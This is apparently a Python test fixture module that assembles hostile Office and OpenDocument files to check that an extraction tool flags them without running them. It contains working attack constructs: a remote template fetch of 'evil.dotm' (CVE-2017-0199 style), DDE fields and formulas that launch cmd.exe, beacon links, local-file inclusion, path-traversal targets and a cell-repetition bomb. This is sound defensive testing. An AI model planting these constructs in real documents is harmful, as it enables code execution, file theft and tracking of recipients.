"""Office files that would run, fetch or hide something."""

from __future__ import annotations

from tests.extraction.office.books import MAIN, PACKAGE, RELATIONS, Parts, package, relations, workbook
from tests.extraction.office.compounds import compound_of
from tests.hostile.files import BadFile, Canary

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_OPEN = "urn:oasis:names:tc:opendocument:xmlns"


def word(body: str, more: Parts | None = None, *, links: str = "") -> bytes:
    """Pack a DOCX; a body without markup is one paragraph."""
    content = body if body.startswith("<") else paragraph(body)
    parts: dict[str, str | bytes] = {
        "_rels/.rels": relations(("r", "officeDocument", "word/document.xml")),
        "word/document.xml": f'<w:document xmlns:w="{W}" xmlns:r="{RELATIONS}"><w:body>{content}</w:body>'
        "</w:document>",
        **(more or {}),
    }
    if links:
        parts["word/_rels/document.xml.rels"] = links
    return package(parts)


def paragraph(text: str, properties: str = "") -> str:
    return f'<w:p><w:r><w:rPr>{properties}</w:rPr><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def cell(place: str, text: str, formula: str = "") -> str:
    said = f"<f>{formula}</f><v>{text}</v>" if formula else f"<is><t>{text}</t></is>"
    kind = "str" if formula else "inlineStr"
    return f'<row r="{place[1:]}"><c r="{place}" t="{kind}">{said}</c></row>'


def word_macros(_: Canary) -> bytes:
    return word("a text with macros", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600)})


def word_template(canary: Canary) -> bytes:
    """Templates from a server and from this machine (CVE-2017-0199 and its like)."""
    return word(
        "a text with a template",
        {
            "word/settings.xml": f'<w:settings xmlns:w="{W}"/>',
            "word/_rels/settings.xml.rels": relations(
                ("t", "attachedTemplate", f"{canary.address}/evil.dotm"),
                ("u", "attachedTemplate", canary.path.as_uri()),
            ),
        },
    )


def word_linked(canary: Canary) -> bytes:
    """Pictures and objects that stand outside: beacons, or files of this machine."""
    return word(
        "a text with a beacon",
        links=relations(
            ("i", "image", f"{canary.address}/beacon.png"),
            ("j", "image", canary.path.as_uri()),
            ("o", "oleObject", f"{canary.address}/object"),
            ("s", "subDocument", canary.path.as_uri()),
        ),
    )


def word_fields(canary: Canary) -> bytes:
    """DDE, and a field that would put a file of this machine into the text."""

    def field(instruction: str) -> str:
        return (
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>as saved</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )

    return word(
        field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')
        + field(f'INCLUDETEXT "{canary.path}"')
        + field(f'INCLUDEPICTURE "{canary.address}/pixel" \\d')
    )


def word_changed(_: Canary) -> bytes:
    """Who was struck out is still in the file; what is hidden too; a comment beside it."""
    return word(
        '<w:p><w:r><w:t xml:space="preserve">The witness is </w:t></w:r>'
        '<w:del w:author="Editor"><w:r><w:delText>struck out</w:delText></w:r></w:del>'
        '<w:ins w:author="Editor"><w:r><w:t>put in</w:t></w:r></w:ins></w:p>'
        + paragraph("not to be seen", "<w:vanish/>"),
        {
            "word/comments.xml": f'<w:comments xmlns:w="{W}"><w:comment w:id="1" w:author="Reader">'
            f"{paragraph('said beside it')}</w:comment></w:comments>"
        },
        links=relations(("c", "comments", "comments.xml")),
    )


def word_imported(canary: Canary) -> bytes:
    """A page imported into the text, which itself would fetch a file of this machine."""
    page = f'<!doctype html><body><p>imported</p><iframe src="{canary.path.as_uri()}"></iframe></body>'
    return word(
        paragraph("a text that imports") + '<w:altChunk r:id="c"/>',
        {"word/chunk.html": page},
        links=relations(("c", "aFChunk", "chunk.html")),
    )


def sheet_macros(_: Canary) -> bytes:
    return workbook(
        cell("A1", "a sheet with macros"),
        {"xl/vbaProject.bin": b"x", "xl/macrosheets/sheet1.xml": f'<worksheet xmlns="{MAIN}"/>'},
    )


def sheet_links(canary: Canary) -> bytes:
    """DDE, a web service, and links to a file of this machine and of a server."""
    links = relations(
        ("a", "externalLinkPath", canary.path.as_uri()),
        ("b", "externalLinkPath", f"{canary.address}/book.xlsx"),
    )
    return workbook(
        cell("A1", "as saved", "cmd|'/c calc'!A0")
        + cell("A2", "as saved", f"WEBSERVICE(&quot;{canary.address}&quot;)")
        + cell("A3", "as saved", "[1]Sheet1!A1"),
        {
            "xl/connections.xml": f'<connections xmlns="{MAIN}"/>',
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}"/>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": links,
        },
    )


def sheet_hidden(_: Canary) -> bytes:
    """A sheet that no menu shows, and a hidden row and column in the one that is shown."""
    rows = (
        '<row r="1"><c r="A1" t="inlineStr"><is><t>seen</t></is></c></row>'
        '<row r="2" hidden="1"><c r="A2" t="inlineStr"><is><t>hidden row</t></is></c></row>'
    )
    return workbook(
        rows,
        {
            "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{RELATIONS}"><sheets>'
            '<sheet name="July" sheetId="1" r:id="r1"/>'
            '<sheet name="Kept back" sheetId="2" state="veryHidden" r:id="r2"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": relations(
                ("r1", "worksheet", "worksheets/sheet1.xml"), ("r2", "worksheet", "worksheets/sheet2.xml")
            ),
            "xl/worksheets/sheet2.xml": f'<worksheet xmlns="{MAIN}"><sheetData>{cell("A1", "kept back")}'
            "</sheetData></worksheet>",
        },
    )


def sheet_of_no_value(_: Canary) -> bytes:
    """A formula whose value nobody saved must not vanish."""
    return workbook('<row r="1"><c r="A1"><f>SUM(B1:B9)</f></c><c r="B1"><v>4</v></c></row>')


def sheet_part_outside(canary: Canary) -> bytes:
    """Sheets whose parts are said to lie outside the package."""
    links = (
        f'<Relationships xmlns="{PACKAGE}">'
        f'<Relationship Id="r1" Type="{RELATIONS}/worksheet" Target="{canary.path.as_uri()}"/>'
        f'<Relationship Id="r2" Type="{RELATIONS}/sharedStrings" Target="../../../../{canary.path}"/>'
        "</Relationships>"
    )
    return workbook(cell("A1", "inside"), {"xl/_rels/workbook.xml.rels": links})


def ods_of(table: str, more: Parts | None = None) -> bytes:
    """Pack an OpenDocument sheet."""
    return package(
        {
            "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": f'<office:document-content xmlns:office="{_OPEN}:office:1.0"'
            f' xmlns:table="{_OPEN}:table:1.0" xmlns:text="{_OPEN}:text:1.0"'
            f' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="{_OPEN}:drawing:1.0">'
            f'<office:body><office:spreadsheet><table:table table:name="July">{table}</table:table>'
            "</office:spreadsheet></office:body></office:document-content>",
            **(more or {}),
        }
    )


def ods_linked(canary: Canary) -> bytes:
    """A sheet that is filled from a file of this machine, and scripts."""
    return ods_of(
        f'<table:table-source xlink:href="{canary.path.as_uri()}" table:mode="copy-all"/>'
        '<table:table-row><table:table-cell office:value-type="string"><text:p>as saved</text:p>'
        "</table:table-cell></table:table-row>",
        {"Basic/Standard/Module1.xml": "<x/>", "Scripts/python/evil.py": "import os"},
    )


def ods_repeated(_: Canary) -> bytes:
    """One cell that is said to stand in every cell of the largest sheet."""
    return ods_of(
        '<table:table-row table:number-rows-repeated="1048576"><table:table-cell'
        ' table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p>'
        "</table:table-cell></table:table-row>"
    )


def encrypted_office(_: Canary) -> bytes:
    """An Office file with a password is an old container with this stream."""
    return compound_of("EncryptedPackage", bytes(range(256)) * 20)


FILES = (
    BadFile(
        "macros.docm", word_macros, "read", ("It holds macros; none was run.",), text="a text with macros"
    ),
    BadFile(
        "template.docx",
        word_template,
        "read",
        ("It would fetch a template from outside",),
        text="a text with a template",
    ),
    BadFile("linked.docx", word_linked, "read", ("It refers to files outside",), text="a text with a beacon"),
    BadFile(
        "fields.docx",
        word_fields,
        "read",
        ("would fetch data or start a program",),
        text="as saved\nas saved\nas saved",
    ),
    BadFile(
        "changed.docx",
        word_changed,
        "read",
        (
            "Deletions by Editor are recorded in it",
            "Passages are hidden in it and were read",
            "It has comments",
        ),
        text="The witness is put in\nnot to be seen\nsaid beside it",
    ),
    BadFile(
        "imported.docx",
        word_imported,
        "read",
        ("A part of another format is imported",),
        text="a text that imports",
        members={"chunk.html": "read"},
    ),
    BadFile(
        "macros.xlsm",
        sheet_macros,
        "read",
        ("It holds macros; none was run.", "macro sheets of Excel 4"),
        text="a sheet with macros\x1f\x1e",
    ),
    BadFile(
        "links.xlsx",
        sheet_links,
        "read",
        (
            "connections to data outside",
            "links to other files or programs",
            "cells would fetch data or start a program",
        ),
        text="as saved\x1f\x1e" * 3,
    ),
    BadFile(
        "hidden.xlsx",
        sheet_hidden,
        "read",
        ("The sheet “Kept back” is hidden", "hidden rows were read (2)"),
        text="seen\x1f\x1ehidden row\x1f\x1ekept back\x1f\x1e",
    ),
    BadFile(
        "formula.xlsx", sheet_of_no_value, "read", ("kept as formulas (A1)",), text="=SUM(B1:B9)\x1f4\x1f\x1e"
    ),
    BadFile("outside.xlsx", sheet_part_outside, says=("is missing",)),
    BadFile(
        "linked.ods",
        ods_linked,
        "read",
        ("none was followed", "It holds macros; none was run.", "It holds scripts; none was run."),
        text="as saved\x1f\x1e",
    ),
    BadFile("repeated.ods", ods_repeated, says=("more than 5000000 cells",)),
    BadFile("locked.docx", encrypted_office, says=("password",)),
)
